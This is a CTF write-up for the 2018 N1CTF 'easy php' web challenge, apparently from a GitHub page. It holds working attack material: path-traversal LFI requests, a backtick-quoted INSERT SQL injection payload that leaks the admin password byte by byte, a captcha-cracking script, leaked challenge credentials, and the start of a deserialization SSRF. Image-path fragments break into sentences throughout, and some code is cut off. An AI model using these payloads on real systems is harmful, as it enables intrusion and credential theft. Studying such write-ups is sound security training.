Skip to content
Branch: master
Find file History
Fetching latest commit…
Cannot retrieve the latest commit at this time.
Type Name Latest commit message Commit time
Failed to load latest commit information.
src Fix typo Mar 15, 2018
a35ad7b6-56df-4cfc-bcba-089b83a8544b.Dockerfile Remove 2018-nu1lctf folder to 2018-n1ctf Mar 15, 2018 Remove 2018-nu1lctf folder to 2018-n1ctf Mar 15, 2018
fileupload.png Remove 2018-nu1lctf folder to 2018-n1ctf Mar 15, 2018
site.png Remove 2018-nu1lctf folder to 2018-n1ctf Mar 15, 2018 Remove 2018-nu1lctf folder to 2018-n1ctf Mar 15, 2018 Remove 2018-nu1lctf folder to 2018-n1ctf Mar 15, 2018

easy php (Web, 540pt)

Not racing, just enjoying the slow pace of life :)



This was one of the toughest challenges I've ever worked on a CTF and it required the exploitation of several bugs in order to reach the flag, so let's start with an overview.

  • Arbitrary file disclosure through backup files (~) and LFI
  • INSERT SQLi in publish functionality to exfiltrate admin credentials through un/serialized PHP object
  • SSRF (CRLF injection) through unsafe object deserialization to "bypass" $_SERVER['REMOTE_ADDR'] === '' condition and get authenticated admin session
  • File upload filtering bypass using PHP <?= shorthand
  •Bruteforce predictable uploaded filename (time().rand(1,100))
  • Bypass Content-Type restrictions and execute PHP code using LFI

Application source code

Initially, we quickly discover that we can get the source code of the application by appending the tilde ~ in filenames.

GET /index.php~
GET /user.php~
GET /config.php~

Looking at the source we see that we can also get the source code for the view files since they have no .phpextension and their code is just echoed back.

GET /views/index
GET /views/login
GET /views/logout
GET /views/register
GET /views/profile
GET /views/publish
GET /views/delete
GET /views/phpinfo

Also, there is a LFI vulnerability in index.php which allows us to leak arbitrary files from the filesystem. We choose to read the files specified in the provided dockerfile.

GET /index.php?action=../../../app/
GET /index.php?action=../../../home/nu1lctf/

All files can be found in the src folder.

After reading the source we have the following layout for the database.---           ---
| ctf_users               |           | ctf_user_signature        |
|---|           |---|
| id            | int     | PK ---|   | id        | int           | PK
| username      | varchar |       |---| userid    | int           | FK
| password      | varchar |           | username  | varchar       |
| ip            | varchar |           | signature | varchar       |
| is_admin      | bool    |           | mood      | varchar       |
| allow_diff_ip | bool|           ---
Database: nu1lctf

# Credentials found in /
user: root
pass: Nu1Lctf%#~:p

# Credentials found in /app/config.php
user: Nu1L
pass: Nu1Lpassword233334

Solving the captcha

To register and login, the application generates a captcha that we must solve. Look at the corresponding views we see that the captcha is actually the first 5 characters of md5(rand_s(3)).

$code = rand_s(3);
$md5c = substr(md5($code),0,5);
$c_view = "substr(md5(?), 0, 5) === $md5c";
$_SESSION['code'] = $md5c;

Function rand_s() is defined in config.php and is shown below.

function rand_s($length = 8)
    $chars = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!@#$%^&*()-_ []{}<>~`+=,.;:/?|';
    $password = '';
    for ( $i = 0; $i < $length; $i++ )
        $password .= $chars[ mt_rand(0, strlen($chars) - 1) ];
    return $password;

We can simply precalculate all MD5 hashes (92**3 == 778688) and save them to a file which we can later use to solve all captchas.

import hashlib
from itertools import product

c ='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!@#$%^&*()-_ []{}<>~`+=,.;:/?|'
captchas = [''.join(i) for i in product(c, repeat=3)]

print '[+] Genering {} captchas...'.format(len(captchas))
with open('captchas.txt', 'w') as f:
    for k in captchas:
        f.write(hashlib.md5(k).hexdigest()+' --> '+k+'\n')

Getting admin credentials

Now that we have a user account let's go to the more serious staff. The application actually exposes two main functionalities to authenticated non-admin users.


POST /index.php?action=publish HTTP/1.1
Content-Type: application/x-www-form-urlencoded
Content-Length: 20
Connection: close


Allow sign in from different IP:POST /index.php?action=profile HTTP/1.1
Content-Type: application/x-www-form-urlencoded
Content-Length: 6
Connection: close


Code review reveals that the signature parameter in publish requests is vulnerable to INSERT SQLi.

function publish()
    $mood = addslashes(serialize(new Mood((int)$_POST['mood'],get_ip())));
    $db = new Db();
    @$ret = $db->insert(array('userid','username','signature','mood'),'ctf_user_signature',array($this->userid,$this->username,$_POST['signature'],$mood));

The corresponding functions from config.php are given below.

private function get_column($columns){
        $column = ' `'.implode('`,`',$columns).'` ';
        $column = ' `'.$columns.'` ';
    return $column;

public function insert($columns,$table,$values){
    $column = $this->get_column($columns);
    $value = '('.preg_replace('/`([^`,]+)`/','\'${1}\'',$this->get_column($values)).')';
    $nid =$sql = 'insert into '.$table.'('.$column.') values '.$value;
    $result = $this->conn->query($sql);
    return $result;

We can use a common SQLi payload for insert statements but in order to cope with the preg_replace, we must use backticks (`) in place of single quotes ('). So, sending the following payload:

mood=0&signature=a`, `mood`); -- -

will result in the following MySQL query:

insert into ctf_user_signature( `userid`,`username`,`signature`,`mood` )
values ( '1','foo','a', 'mood'); -- -`,'0' )

Next step, is to extract data. In the index view we see that the showmess() function is used retrieve data from the ctf_user_signature table and present them to us. So, this a good place to look at what we should inject. The relevant code is given below.

function showmess()
    $db = new Db();
    @$ret = $db->select(array('username','signature','mood','id'),'ctf_user_signature',"userid = $this->userid order by id desc");
    if($ret) {
        $data = array();
        while ($row = $ret->fetch_row()) {
            $sig = $row[1];
            $mood = unserialize($row[2]);
            $country = $mood->getcountry();
            $ip = $mood->ip;
            $subtime = $mood->getsubtime();
            $allmess = array('id'=>$row[3],'sig' => $sig, 'mood' => $mood, 'ip' => $ip, 'country' => $country, 'subtime' =>$subtime);
            array_push($data, $allmess);
        $data = json_encode(array('code'=>0,'data'=>$data));
        return $data;

So, the mood must be a valid serialized Mood object in order to avoid PHP throwing fatal errors upon deserialization and being able to exfiltrate admin's password. We must also takeinto account that the addslahes() function must be applied to the serialized object we inject. Below, a serialized Mood is given.


I decided to use the mood parameter to extract data one byteat a time since it is an integer and it doesn't require a length to be specified in the object; thus it will be useful to extract any data we may need. We could definitely find other ways to extract data, also taking into account that the given endpoint seemed to be JSON injectable! :P,%22country%22,%22pwn%22}}//

But anyway, let's ignore that. We have constructed our final injection payload as given below.

a`, (select concat(`O:4:\"Mood\":3:{s:4:\"mood\";i:`,ord(substr(password,1,1)),`;s:2:\"ip\";s:9:\"\";s:4:\"date\";i:1520664478;}`) from ctf_users where is_admin=1 limit 1)); -- -

After our injection is inserted into the database, we can extract the mood bytes from the image filenames at index view. The solution is automated in the script.

❯❯❯ python
[+] register(o3yipuuktb, ekmhxqhd13)
[+] login(o3yipuuktb, ekmhxqhd13)
[+] user session => que3r92vlqdsso9f6r81djvn51
[+] admin hash => 2533f492a796a3227b0c6f91d102cc36

The MD5 could not be cracked with either rockyou or any well-known online service but during the CTF admins provided an endpoint which could be used to "crack" the hash.❯❯❯ curl

And we have admin credentials.


SSRF through unsafe object deserialization

Having acquired admin credentials, we try to login but we receive the message You can only login at the usual address. Looking into the relevant code, it seems that the administrator entry in the ctf_users table disallows logins from different IPs and the only IP address allowed is

function login()
    $user = $ret->fetch_row();
    if($user) {
        if ($user[4] == '0' && $user[2] !== get_ip())
            die("You can only login at the usual address");

During login, our IP address is obtained using the get_ip() function (as defined in config.php), and unfortunately there is no way to bypass it usingHTTP request headers.

function get_ip(){
    return $_SERVER['REMOTE_ADDR'];

At the time I reached that point, the challenge had still 0 solves so I started thinking that we may need to find a way to spoof REMOTE_ADDR, so I spent several hours reading the relevant code in the PHP source. Of course, I had no luck with it! Taking into account the hints released by the challenge author, we were pointed towards finding a non-obivous SSRF to access the admin account.

After spending many hours stuck at this point, we started thinking that we have complete control over the object being deserialized and this is absolutely alarming. However, there are no magic methods defined in the Mood class and our IP was always retrieved dynamically. As such, we thought that we may be able to use another PHP object that will somehow benefit us. Looking at the showmess()function where objects get deserialized, we have the following.

function showmess()
    $db = new Db();
    @$ret = $db->select(array('username','signature','mood','id'),'ctf_user_signature',"userid = $this->userid order by id desc");
    if($ret) {
        $data = array();
        while ($row = $ret->fetch_row()) {
            $sig = $row[1];
            $mood = unserialize($row[2]);
            $country = $mood->getcountry();
            $ip = $mood->ip;
            $subtime = $mood->getsubtime();
            $allmess = array('id'=>$row[3],'sig' => $sig, 'mood' => $mood, 'ip' => $ip, 'country' => $country, 'subtime' => $subtime);
            array_push($data, $allmess);
        $data = json_encode(array('code'=>0,'data'=>$data));
        return $data;
        return false;

After deserialization, we see the function getcountry() called on the object. Initial thought was to enumerate all PHP objects that define a getcountry() method and see if there are any vulnerabilities we could exploit there.Unfortunately, there are no such classes. So, looking the other way around, it seems that there is a magic method triggered upon calls to undefined methods. As we read in the PHP documentation, this is the __call() method.

__call() is triggered when invoking inaccessible methods in an object context.

The following code was used to enumerate all PHP classes that define the __call() method.


$classes = get_declared_classes();
foreach ($classes as $class) {
    $methods = get_class_methods($class);
    foreach ($methods as $method) {
        if ($method === '__call') {
            print $class . '::' . $method . "\n";

